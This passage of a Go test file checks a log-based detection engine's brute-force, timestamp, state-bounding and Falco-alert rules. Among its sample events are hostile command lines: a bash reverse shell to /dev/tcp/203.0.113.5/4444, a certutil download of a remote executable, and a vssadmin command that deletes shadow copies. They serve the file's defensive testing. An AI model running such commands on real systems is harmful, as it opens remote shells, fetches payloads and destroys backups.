	first := sshFail("root", "203.0.113.50", 0)
	rep := syslogEv("sshd", "message repeated 9 times: [ Failed password for root from 203.0.113.50 port 50122 ssh2]")
	rep.Time = t0.Add(time.Second)
	ds := collect(New(Options{}), first, rep)
	if len(ds) != 1 || ds[0].Count != 10 {
		t.Fatalf("got %+v", ds)
	}
}

func TestWindowsBruteForce(t *testing.T) {
	var evs []*event.Event
	for i := range 10 {
		ev := winEvent(4625, "Security", "Microsoft-Windows-Security-Auditing", `{"TargetUserName":"Administrator","IpAddress":"192.0.2.44","LogonType":"10"}`)
		ev.Time = t0.Add(time.Duration(i) * time.Second)
		ev.Host = "WS9"
		evs = append(evs, ev)
	}
	ok := winEvent(4624, "Security", "Microsoft-Windows-Security-Auditing", `{"TargetUserName":"Administrator","IpAddress":"192.0.2.44","LogonType":"10"}`)
	ok.Time = t0.Add(20 * time.Second)
	ok.Host = "WS9"
	evs = append(evs, ok)
	ds := byRule(collect(New(Options{}), evs...))
	if len(ds["loupe-brute-force"]) != 1 || len(ds["loupe-brute-force-success"]) != 1 {
		t.Fatalf("got %v", ds)
	}
	if d := ds["loupe-brute-force-success"][0]; !strings.Contains(d.What, `logged on as "Administrator" after 10 failed`) || !strings.Contains(d.Key, "192.0.2.44") {
		t.Errorf("what = %q", ds["loupe-brute-force-success"][0].What)
	}
	// An interactive (type 2) logon is not the remote success we look for.
	ok2 := winEvent(4624, "Security", "Microsoft-Windows-Security-Auditing", `{"TargetUserName":"Administrator","IpAddress":"192.0.2.44","LogonType":"2"}`)
	ok2.Time, ok2.Host = ok.Time, "WS9"
	ds2 := byRule(collect(New(Options{}), append(evs[:10:10], ok2)...))
	if len(ds2["loupe-brute-force-success"]) != 0 {
		t.Errorf("type 2 logon counted as success")
	}
}

func TestOutOfOrderTime(t *testing.T) {
	order := []int{5, 2, 9, 0, 7, 1, 8, 3, 6, 4}
	var evs []*event.Event
	for _, i := range order {
		evs = append(evs, sshFail("root", "203.0.113.50", time.Duration(i)*20*time.Second))
	}
	if ds := collect(New(Options{}), evs...); len(ds) != 1 {
		t.Errorf("shuffled burst within 3m: %d detections, want 1", len(ds))
	}
	// The same shuffle spread over 10 hours is no burst.
	evs = evs[:0]
	for _, i := range order {
		evs = append(evs, sshFail("root", "203.0.113.50", time.Duration(i)*time.Hour))
	}
	if ds := collect(New(Options{}), evs...); len(ds) != 0 {
		t.Errorf("shuffled over hours: %d detections, want 0", len(ds))
	}
}

func TestZeroTimestamps(t *testing.T) {
	var evs []*event.Event
	for range 10 {
		ev := sshFail("root", "203.0.113.50", 0)
		ev.Time = time.Time{}
		evs = append(evs, ev)
	}
	if ds := collect(New(Options{}), evs...); len(ds) != 1 {
		t.Errorf("untimed burst: %d detections, want 1", len(ds))
	}
	// Untimed failures take the time of the last timed event.
	evs = []*event.Event{sshFail("root", "203.0.113.50", 0)}
	for range 9 {
		ev := sshFail("root", "203.0.113.50", 0)
		ev.Time = time.Time{}
		evs = append(evs, ev)
	}
	if ds := collect(New(Options{}), evs...); len(ds) != 1 {
		t.Errorf("mixed burst: %d detections, want 1", len(ds))
	}
}

func TestStateBounded(t *testing.T) {
	e := New(Options{MaxTracked: 1000})
	ev := &event.Event{Host: "web1", Format: event.FormatSyslog, Program: "sshd"}
	emitted := 0
	for i := range 1_000_000 {
		ev.Time = t0.Add(time.Duration(i) * time.Millisecond)
		ev.Message = fmt.Sprintf("Failed password for root from 10.%d.%d.%d port 22 ssh2", i>>16&255, i>>8&255, i&255)
		e.Observe(ev, func(Detection) { emitted++ })
		if n := e.auth.bySrc.len(); n > 1000 {
			t.Fatalf("tracked sources = %d after %d events", n, i+1)
		}
		if e.auth.bySrc.len() != len(e.auth.bySrc.index) {
			t.Fatal("LRU list and index disagree")
		}
	}
	if e.auth.byUser.len() > 1000 {
		t.Errorf("tracked users = %d", e.auth.byUser.len())
	}
	// root failed 1M times from distinct IPs within the window: one
	// per-user detection, no per-source ones.
	if emitted != 1 {
		t.Errorf("emitted %d detections, want 1", emitted)
	}
}

func TestStateExpires(t *testing.T) {
	e := New(Options{})
	e.Observe(sshFail("root", "203.0.113.50", 0), func(Detection) {})
	if e.auth.bySrc.len() != 1 {
		t.Fatal("state not kept")
	}
	e.Observe(sshFail("root", "203.0.113.51", time.Hour), func(Detection) {})
	if e.auth.bySrc.len() != 1 {
		t.Errorf("idle state not expired: %d", e.auth.bySrc.len())
	}
}

// --- Falco ---

func falcoEv(rule, prio, output string, tags ...string) *event.Event {
	return &event.Event{ID: "fa", Host: "node-1", Format: event.FormatFalco, Rule: rule, Priority: prio, Message: output, Tags: tags, CommandLine: "bash"}
}

func TestFalco(t *testing.T) {
	cases := []struct {
		ev     *event.Event
		prio   finding.Priority
		tactic string
		techs  string
		what   string
	}{
		{falcoEv("Terminal shell in container", "Notice", "17:20:42.123456789: Notice A shell was spawned in a container (user=root)", "container", "shell", "mitre_execution", "T1059"),
			finding.Low, "Execution", "T1059", `raised the Falco alert "A shell was spawned in a container"`},
		{falcoEv("Read sensitive file untrusted", "Warning", "Warning Sensitive file opened for reading (file=/etc/shadow)", "filesystem", "mitre_credential_access", "T1555", "T1003.008"),
			finding.Medium, "Credential Access", "T1555,T1003.008", `raised the Falco alert "Sensitive file opened for reading"`},
		{falcoEv("Clear Log Activities", "Error", "Log files were tampered", "filesystem"),
			finding.High, "Defense Evasion", "T1070.002", `raised the Falco alert "Log files were tampered"`},
		{falcoEv("Some Custom Rule", "Critical", "custom", "T1611"),
			finding.Critical, "Privilege Escalation", "T1611", `raised the Falco alert "custom"`},
		{falcoEv("Some Custom Rule", "Informational", "custom"),
			finding.Info, "Execution", "", `raised the Falco alert "custom"`},
		{falcoEv("Tagged", "Emergency", "x", "MITRE_PERSISTENCE", "mitre_execution"),
			finding.Critical, "Persistence", "", `raised the Falco alert "x"`},
	}
	for _, c := range cases {
		ds := collect(New(Options{}), c.ev)
		if len(ds) != 1 {
			t.Fatalf("%s: %d detections", c.ev.Rule, len(ds))
		}
		d := ds[0]
		var ids []string
		for _, tq := range d.Techniques {
			ids = append(ids, tq.ID)
		}
		if d.Priority != c.prio || d.Tactic != c.tactic || strings.Join(ids, ",") != c.techs || !strings.HasPrefix(d.What, c.what) {
			t.Errorf("%s: got prio %s tactic %s techs %v what %q", c.ev.Rule, d.Priority, d.Tactic, ids, d.What)
		}
		if d.Source != "falco" || d.Rule.ID != "falco:"+c.ev.Rule || d.Rule.Author != "Falco" || d.Rule.Link == "" || d.TacticID == "" {
			t.Errorf("%s: attribution %+v source %s", c.ev.Rule, d.Rule, d.Source)
		}
	}
}

// Falco alerts are trusted as they are; the built-in command rules do not
// add a second detection for the same alert.
func TestFalcoNotDoubled(t *testing.T) {
	ev := falcoEv("Reverse shell", "Critical", "reverse shell", "mitre_execution")
	ev.CommandLine = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"
	if ds := collect(New(Options{}), ev); len(ds) != 1 || ds[0].Source != "falco" {
		t.Errorf("got %v", ds)
	}
}

func TestObserveBenignDoesNotAllocate(t *testing.T) {
	e := New(Options{})
	for _, ev := range benignEvents() {
		n := testing.AllocsPerRun(50, func() { e.Observe(ev, func(Detection) { t.Fatal("detection on benign event") }) })
		if n != 0 {
			t.Errorf("Observe(%q / %d / %s) allocates %v times", ev.CommandLine, ev.EventID, ev.Message, n)
		}
	}
}

func benignEvents() []*event.Event {
	return []*event.Event{
		proc(`C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`),
		proc(`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US`),
		proc(`C:\Windows\System32\net.exe user bob /domain`),
		proc(`powershell.exe -ExecutionPolicy Bypass -File C:\scripts\inventory.ps1`),
		proc(`sc.exe query wuauserv`),
		proc(`"C:\Users\bob\AppData\Local\Programs\Microsoft VS Code\Code.exe" --unity-launch`),
		linuxCmd("ls -la /var/log"),
		linuxCmd("tail -n 100 /var/log/syslog"),
		linuxCmd("python3 manage.py runserver"),
		linuxCmd("curl -s https://api.example.org/health"),
		winEvent(4624, "Security", "Microsoft-Windows-Security-Auditing", `{"TargetUserName":"svc","LogonType":"3","IpAddress":"10.0.0.8"}`),
		winEvent(4688, "Security", "Microsoft-Windows-Security-Auditing", `{}`),
		winEvent(7036, "System", "Service Control Manager", `{}`),
		syslogEv("sshd", "Accepted publickey for deploy from 10.0.0.4 port 50000 ssh2: ED25519 SHA256:abc"),
		syslogEv("sshd", "pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)"),
		syslogEv("CRON", "(root) CMD (cd / && run-parts --report /etc/cron.hourly)"),
		syslogEv("systemd", "Started Session 42 of user deploy."),
		syslogEv("kernel", "[UFW BLOCK] IN=eth0 OUT= SRC=198.51.100.4 DST=10.0.0.2 PROTO=TCP DPT=23"),
	}
}

func mixedEvents() []*event.Event {
	evs := benignEvents()
	evs = append(evs,
		proc("vssadmin.exe delete shadows /all /quiet"),
		proc("certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe"),
		linuxCmd("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
		sshFail("root", "203.0.113.50", 0),
		winEvent(7045, "System", "Service Control Manager", `{"ServiceName":"PSEXESVC","ImagePath":"%SystemRoot%\\PSEXESVC.exe"}`),
		falcoEv("Terminal shell in container", "Notice", "A shell was spawned", "mitre_execution", "T1059"),
	)
	return evs
}

func benchObserve(b *testing.B, evs []*event.Event) {
	e := New(Options{})
	emit := func(Detection) {}
	b.ReportAllocs()
	n := 0
	for b.Loop() {
		e.Observe(evs[n%len(evs)], emit)
		n++
	}
	b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "events/s")
}

func BenchmarkObserveBenign(b *testing.B) { benchObserve(b, benignEvents()) }
func BenchmarkObserveMixed(b *testing.B)  { benchObserve(b, mixedEvents()) }
